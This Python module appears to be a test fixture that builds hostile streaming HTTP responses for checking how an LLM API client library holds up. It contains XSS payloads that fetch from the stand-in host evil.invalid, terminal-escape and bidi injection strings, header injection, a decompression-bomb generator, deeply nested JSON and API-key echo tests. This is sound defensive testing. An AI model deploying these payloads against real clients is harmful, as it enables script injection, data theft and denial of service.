"""Pieces of hostile answers, of which the behaviours are made.

Rule: a behaviour yields bytes to send, or seconds to wait, or that it hangs up. It may go on for ever: it ends when the
client hangs up."""

from __future__ import annotations

import itertools
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tailgauge.transport.http1 import ChunkedBody

MARK = "pwned"  # what a script of ours would leave behind; harmless where it stands as text
EVIL = (
    f"</script><script>window.{MARK}=1;fetch('http://evil.invalid/a')</script>"
    f"<img src=x onerror=\"window.{MARK}=2;fetch('http://evil.invalid/b')\">"
    f"'\"--><svg onload=window.{MARK}=3>&lt;b&gt;{{{{7*7}}}}]]>"
    f"\x1b[31m\x1b]0;{MARK}\x07\x9b2J\u202eevil\u2066|`x`[l](javascript:window.{MARK}=4)"
)
EVIL_BYTES = EVIL.encode("latin-1", "replace")  # for headers, which know no other characters
FLOOD = b"x" * 65_536
HEAD = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n"
CHUNKED = HEAD + b"transfer-encoding: chunked\r\n\r\n"
END = b"0\r\n\r\n"

Sent = Iterator[bytes | float]
CLOSE, RESET, WAIT = -1.0, -2.0, -3.0  # instead of a pause: hang up, or wait until the client does


@dataclass(frozen=True)
class Request:
    """A request as it came: its protocol, and the key that it brought."""

    protocol: str
    key: str

    def event(self, **tree: Any) -> bytes:
        return chunk(b"data: %b\n\n" % json.dumps(tree).encode())

    def delta(self, text: Any, **more: Any) -> bytes:
        """A piece of content; `text` may be no text at all."""
        if self.protocol == "openai":
            choices = [{"index": 0, "delta": {"content": text}}]
            return self.event(id="c-1", model="m", choices=choices, **more)
        if self.protocol == "sse":
            return self.event(text=text, **more)
        return self.event(
            type="content_block_delta", index=0, delta={"type": "text_delta", "text": text}, **more
        )

    def word(self, text: str) -> bytes:
        return self.delta(text)

    def opening(self, model: str = "m", identity: str = "1") -> bytes:
        if self.protocol == "sse":
            return chunk(b"event: status\ndata: %b\n\n" % json.dumps({"phase": model}).encode())
        if self.protocol == "openai":
            return self.event(
                id=identity, model=model, choices=[{"index": 0, "delta": {"role": "assistant"}}]
            )
        usage = {"input_tokens": 32, "output_tokens": 1}
        message = {
            "id": identity,
            "type": "message",
            "role": "assistant",
            "model": model,
            "content": [],
            "usage": usage,
        }
        return self.event(type="message_start", message=message)

    def end(self) -> bytes:
        """The end mark."""
        return (
            self.event(type="message_stop")
            if self.protocol == "anthropic"
            else chunk(b"data: [DONE]\n\n")
        )

    def summary(self, reason: str = "stop", usage: str | None = None) -> bytes:
        """Why it ended, and a `usage` of any kind, given as JSON text."""
        tree: dict[str, Any] = {"usage": 0}
        if self.protocol == "openai":
            tree |= {
                "id": "c-1",
                "model": "m",
                "choices": [{"index": 0, "delta": {}, "finish_reason": reason}],
            }
        elif self.protocol == "anthropic":
            tree |= {"type": "message_delta", "delta": {"stop_reason": reason}}
        text = json.dumps(tree).replace('"usage": 0', f'"usage": {usage or self.count("2")}')
        return chunk(b"event: usage\ndata: %b\n\n" % text.encode())

    def closing(self, reason: str = "stop", usage: str | None = None) -> bytes:
        return self.summary(reason, usage) + self.end() + END

    def count(self, value: str) -> str:
        """A usage whose output tokens are this JSON text."""
        name = "completion_tokens" if self.protocol == "openai" else "output_tokens"
        prompt = '"prompt_tokens": 32, ' if self.protocol == "openai" else ""
        return f'{{{prompt}"{name}": {value}}}'

    def begun(self) -> bytes:
        """A fair answer up to its first word."""
        return CHUNKED + self.opening() + self.word("a")

    def answer(self) -> bytes:
        """A fair answer's chunks."""
        return self.opening() + self.word("a") + self.word("b") + self.closing()

    def stream(self) -> bytes:
        """The same without framing."""
        body = ChunkedBody().feed(self.answer())
        assert body.endswith(b"\n\n")
        return body


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


def whole(status: int, body: bytes, *headers: bytes, kind: bytes = b"application/json") -> bytes:
    summary = b"".join(header + b"\r\n" for header in headers)
    return b"HTTP/1.1 %d No\r\ncontent-type: %b\r\ncontent-length: %d\r\n%b\r\n%b" % (
        status,
        kind,
        len(body),
        summary,
        body,
    )


def error(text: str, kind: str = "bad") -> bytes:
    return json.dumps({"type": "error", "error": {"type": kind, "message": text}}).encode()


def error_event(text: str, kind: str) -> bytes:
    return chunk(b"event: error\ndata: %b\n\n" % error(text, kind))


# --- behaviours, by name ----------------------------------------------------------------------------------------

Bytes = bytes | Callable[[Request], bytes]


def _of(asked: Request, data: Bytes) -> bytes:
    return data if isinstance(data, bytes) else data(asked)


def fair(asked: Request) -> Sent:
    yield CHUNKED + asked.opening()
    for text in ("two ", "text"):
        yield 0.01
        yield asked.word(text)
    yield asked.closing()


def forever(first: Bytes, again: Bytes, every_s: float = 0) -> Callable[[Request], Sent]:
    """`first`, then `again` and again."""

    def sent(asked: Request) -> Sent:
        yield _of(asked, first)
        more = _of(asked, again)
        while True:
            yield more
            if every_s:
                yield every_s

    return sent


def once(answer: Bytes) -> Callable[[Request], Sent]:
    """One answer, whole."""

    def sent(asked: Request) -> Sent:
        yield _of(asked, answer)

    return sent


def summary(usage: Callable[[Request], str]) -> Callable[[Request], Sent]:
    """A fair answer, but for its usage."""
    return once(lambda asked: asked.begun() + asked.closing(usage=usage(asked)))


def within(data: bytes) -> Callable[[Request], Sent]:
    """A fair answer with this event in it."""
    return around(chunk(b"data: " + data + b"\n\n"))


def script(asked: Request) -> Sent:
    """A script wherever a text may stand in an answer that is fair otherwise."""
    names = ("anthropic-ratelimit-requests-remaining", "x-ratelimit-remaining-tokens", "request-id", "x-request-id",
             "retry-after", "server", "keep-alive", "x-ratelimit-" + "z" * 9000)  # fmt: skip
    headers = b"".join(name.encode() + b": " + EVIL_BYTES + b"\r\n" for name in names)
    headers += b"x-ratelimit-%b: 1\r\n" % EVIL_BYTES.replace(b":", b"").replace(b" ", b"")
    headers += b'server-timing: <script>;dur=1, "%b;dur=2\r\n' % EVIL_BYTES
    yield HEAD + headers + b"transfer-encoding: chunked\r\n\r\n"
    yield (
        asked.opening(EVIL)
        + chunk(b"event: %b\ndata: {}\n\n" % EVIL_BYTES)
        + asked.word(EVIL)
        + asked.closing(EVIL)
    )


def script_error(status: int) -> Callable[[Request], Sent]:
    return once(
        whole(
            status, error(EVIL, EVIL), b"request-id: " + EVIL_BYTES, b"retry-after: " + EVIL_BYTES
        )
    )


def script_event(asked: Request) -> Sent:
    yield CHUNKED + asked.opening() + error_event(EVIL, EVIL) + END


def echo(asked: Request) -> Sent:
    """The key, wherever a text may stand."""
    key = asked.key.encode()
    yield (
        HEAD
        + b"request-id: %b\r\nx-ratelimit-limit-tokens: %b\r\nx-ratelimit-%b: 1\r\nserver-timing: %b;dur=1\r\n"
        % (key, key, key, key)
    )
    yield (
        b"transfer-encoding: chunked\r\n\r\n"
        + asked.opening(asked.key)
        + asked.word(asked.key)
        + asked.closing(asked.key)
    )


def echo_error(asked: Request) -> Sent:
    """The key in an error, with a script, and cut in the middle by any limit of length."""
    text = f"{EVIL} {asked.key} " * 40
    yield whole(401, error(text, asked.key), b"request-id: " + asked.key.encode())


def echo_event(asked: Request) -> Sent:
    text = "x" * 1990 + asked.key
    yield CHUNKED + asked.opening() + error_event(text, asked.key) + END


def bomb(form: int) -> bytes:
    """Half a gigabyte of nothing in half a megabyte, as zlib (15) or gzip (31): a block that repeats."""
    packed = zlib.compressobj(9, zlib.DEFLATED, form)
    first, again = (
        packed.compress(FLOOD * 256) + packed.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )
    return first + again * 31 + packed.flush()


def deep(depth: int = 10_000) -> bytes:
    lists = b"[" * depth + b"]" * depth
    return b'{"choices":%b,"type":"message_delta","delta":%b}' % (lists, lists)


def late(first: bytes, pause_s: float) -> Callable[[Request], Sent]:
    """A head, byte by byte."""

    def sent(_: Request) -> Sent:
        for number in itertools.count():
            yield first[number : number + 1] or b"a"
            yield pause_s

    return sent


def noise(_: Request) -> Sent:
    while True:
        yield random.Random(1).randbytes(65_536)


def framed(head: bytes) -> Callable[[Request], Sent]:
    """A fair answer in chunks under another head."""
    return once(lambda asked: head + asked.answer())


def plain(head: bytes, *, cut: int = 0) -> Callable[[Request], Sent]:
    """A fair answer without chunks; the connection is closed behind it. `{length}` is its length, `{less}` one less."""

    def sent(asked: Request) -> Sent:
        body = asked.stream()
        length, less = str(len(body)).encode(), str(len(body) - 1).encode()
        yield head.replace(b"{length}", length).replace(b"{less}", less) + body[: len(body) - cut]
        yield CLOSE

    return sent


def hung_up(data: Bytes = b"", *, reset: bool = False) -> Callable[[Request], Sent]:
    """Some bytes, and no more."""

    def sent(asked: Request) -> Sent:
        yield _of(asked, data)
        yield RESET if reset else CLOSE

    return sent


def around(data: Bytes) -> Callable[[Request], Sent]:
    """A fair answer with these chunks in it."""
    return once(lambda asked: asked.begun() + _of(asked, data) + asked.closing())


def behind(data: Bytes) -> Callable[[Request], Sent]:
    """These chunks between the end mark and the end."""
    return once(
        lambda asked: asked.begun() + asked.summary() + asked.end() + _of(asked, data) + END
    )


def rewritten(change: Callable[[bytes], bytes]) -> Callable[[Request], Sent]:
    """A fair stream whose bytes are changed, in one chunk."""
    return once(lambda asked: CHUNKED + chunk(change(asked.stream())) + END)


def in_pieces(size: int, *, chunks: bool = False) -> Callable[[Request], Sent]:
    """A fair answer in sends, or chunks, of so many bytes."""

    def sent(asked: Request) -> Sent:
        wire = CHUNKED + asked.answer()
        if chunks:
            body = asked.stream()
            wire = (
                CHUNKED
                + b"".join(chunk(body[at : at + size]) for at in range(0, len(body), size))
                + END
            )
            size_sent = len(wire)
        else:
            size_sent = size
        for at in range(0, len(wire), size_sent):
            yield wire[at : at + size_sent]

    return sent


def stalled(data: Bytes) -> Callable[[Request], Sent]:
    """Some bytes, and then nothing, with the connection open."""

    def sent(asked: Request) -> Sent:
        yield _of(asked, data)
        yield WAIT

    return sent


def ended(
    status: int, body: bytes, *headers: bytes, kind: bytes = b"application/json"
) -> Callable[[Request], Sent]:
    return once(whole(status, body, *headers, kind=kind))


def refused(*headers: bytes) -> Callable[[Request], Sent]:
    """A 429 with these headers."""
    return ended(429, error("slow down", "rate_limit_error"), *headers)


def head(*headers: bytes, kind: bytes = b"text/event-stream") -> bytes:
    """The head of a chunked answer with other headers."""
    lines = b"".join(line + b"\r\n" for line in headers)
    return b"HTTP/1.1 200 OK\r\ncontent-type: %b\r\n%btransfer-encoding: chunked\r\n\r\n" % (
        kind,
        lines,
    )


def packed(coding: bytes, body: bytes) -> Callable[[Request], Sent]:
    return ended(200, body, b"content-encoding: " + coding, kind=b"text/event-stream")


def different(piece: bytes, times: int) -> bytes:
    """A piece with eight # in it so many times, each with another number there."""
    before, _, after = piece.partition(b"########")
    return b"".join(b"%b%08d%b" % (before, number, after) for number in range(times))
